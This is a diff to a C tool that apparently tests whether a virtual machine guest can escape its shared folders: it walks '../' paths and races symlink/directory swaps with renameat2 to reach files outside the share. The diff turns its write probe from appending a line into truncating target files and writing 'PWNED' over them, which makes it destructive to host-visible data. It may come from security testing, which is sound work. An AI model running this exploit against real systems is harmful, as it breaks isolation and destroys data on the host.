@@ -32,6 +32,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <signal.h>
 #include <sys/ioctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -44,7 +45,7 @@
 #define KVM_GET_API_VERSION 0xae00 /* _IO(KVMIO, 0x00) */
 #define MAX_SEEN 32
 
-static atomic_long n_reads, n_writes, n_tries;
+static atomic_long n_reads, n_writes, n_tries, n_wrote_printed;
 static atomic_bool stop;
 static pthread_mutex_t seen_lock = PTHREAD_MUTEX_INITIALIZER;
 static char *seen[MAX_SEEN];
@@ -96,12 +97,12 @@ static bool try_read(const char *label, int dirfd, const char *path)
 	return true;
 }
 
-/* Append a line to dirfd/path, creating it if need be: outside the shares
- * that is a change the host will see. */
+/* Write "PWNED" over dirfd/path, creating it if need be: outside the
+ * shares that is a change the host will see. The first 20 are printed. */
 static bool try_write(const char *label, int dirfd, const char *path, bool quiet)
 {
 	atomic_fetch_add(&n_tries, 1);
-	int fd = openat(dirfd, path, O_WRONLY | O_APPEND | O_CREAT | O_NONBLOCK | O_NOCTTY | O_CLOEXEC,
+	int fd = openat(dirfd, path, O_WRONLY | O_TRUNC | O_CREAT | O_NONBLOCK | O_NOCTTY | O_CLOEXEC,
 			0644);
 	if (fd < 0)
 		return false;
@@ -109,7 +110,7 @@ static bool try_write(const char *label, int dirfd, const char *path, bool quiet
 	close(fd);
 	if (ok) {
 		atomic_fetch_add(&n_writes, 1);
-		if (!quiet) {
+		if (!quiet && atomic_fetch_add(&n_wrote_printed, 1) < 20) {
 			printf("WROTE %s %s\n", label, path);
 			fflush(stdout);
 		}
@@ -169,8 +170,11 @@ static int mode_walk(int argc, char **argv)
 	char **names = argv + 1;
 	int nn = argc - 1;
 	int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
-	if (fd < 0)
-		die(dir);
+	if (fd < 0) {
+		/* A symlink the guest resolves to nothing: nothing to walk. */
+		printf("walk: %s: %s\n", dir, strerror(errno));
+		return 0;
+	}
 	/* 1. one path with many "../" */
 	try_names("dotdot-path", fd, 12, names, nn, true);
 	/* 2. an fd walked up one ".." at a time */
@@ -218,6 +222,7 @@ struct race {
 	char **names;
 	int nnames;
 	atomic_long swaps, fails;
+	atomic_long saw_dir, saw_link; /* what "d" was when a reader looked */
 };
 
 static void sleep_ms(long ms)
@@ -243,6 +248,9 @@ static void *reader_thread(void *arg)
 	struct race *r = arg;
 	char p[4096];
 	while (!atomic_load(&stop)) {
+		struct stat st;
+		if (fstatat(r->dirfd, "d", &st, AT_SYMLINK_NOFOLLOW) == 0)
+			atomic_fetch_add(S_ISLNK(st.st_mode) ? &r->saw_link : &r->saw_dir, 1);
 		for (int up = 0; up <= 6; up++)
 			for (int i = 0; i < r->nnames; i++) {
 				char rel[4000];
@@ -289,9 +297,15 @@ static void race_setup(struct race *r, bool make)
 		die(r->dir);
 	if (!make)
 		return;
+	/* A previous run may have left d and l swapped. */
+	struct stat st;
+	if (fstatat(r->dirfd, "l", &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISDIR(st.st_mode) &&
+	    syscall(SYS_renameat2, r->dirfd, "d", r->dirfd, "l", RENAME_EXCHANGE) < 0)
+		die("swap d and l back");
 	if (mkdirat(r->dirfd, "d", 0755) < 0 && errno != EEXIST)
 		die("mkdir d");
-	unlinkat(r->dirfd, "l", 0);
+	if (unlinkat(r->dirfd, "l", 0) < 0 && errno != ENOENT)
+		die("unlink l");
 	if (symlinkat(r->target, r->dirfd, "l") < 0)
 		die("symlink l");
 	int fd = openat(r->dirfd, "d/decoy", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
@@ -300,6 +314,12 @@ static void race_setup(struct race *r, bool make)
 			die("write decoy");
 		close(fd);
 	}
+}
+
+static void on_term(int sig)
+{
+	(void)sig;
+	atomic_store(&stop, true);
 }
 
 static void run_threads(struct race *r, long secs, bool swap, int readers, bool dropper)
@@ -313,7 +333,9 @@ static void run_threads(struct race *r, long secs, bool swap, int readers, bool 
 		pthread_create(&t[n++], NULL, reader_thread, r);
 	if (dropper)
 		pthread_create(&t[n++], NULL, dropper_thread, r);
-	sleep_ms(secs * 1000);
+	/* SIGTERM cuts the wait short (nanosleep returns EINTR). */
+	for (long ms = 0; ms < secs * 1000 && !atomic_load(&stop); ms += 50)
+		sleep_ms(50);
 	atomic_store(&stop, true);
 	for (int i = 0; i < n; i++)
 		pthread_join(t[i], NULL);
@@ -330,14 +352,20 @@ static int mode_swap(int argc, char **argv, bool swap, bool read)
 		r.target = argv[2];
 	r.names = argv + (swap ? 3 : 2);
 	r.nnames = argc - (swap ? 3 : 2);
+	struct sigaction sa = { .sa_handler = on_term };
+	sigaction(SIGTERM, &sa, NULL);
 	race_setup(&r, swap);
 	if (swap && !read)
 		printf("swapper ready\n");
 	fflush(stdout);
 	run_threads(&r, secs, swap, read ? 2 : 0, read);
 	const char *mode = swap ? (read ? "swap" : "swapper") : "reader";
-	printf("%s: target %s: %ld swaps (%ld failed)\n", mode, r.target ? r.target : "-",
-	       (long)r.swaps, (long)r.fails);
+	if (swap)
+		printf("%s: target %s: %ld swaps (%ld failed)\n", mode, r.target, (long)r.swaps,
+		       (long)r.fails);
+	if (read)
+		printf("%s: saw d as a directory %ld times, as a symlink %ld times\n", mode,
+		       (long)r.saw_dir, (long)r.saw_link);
 	summary(mode);
 	return 0;
 }
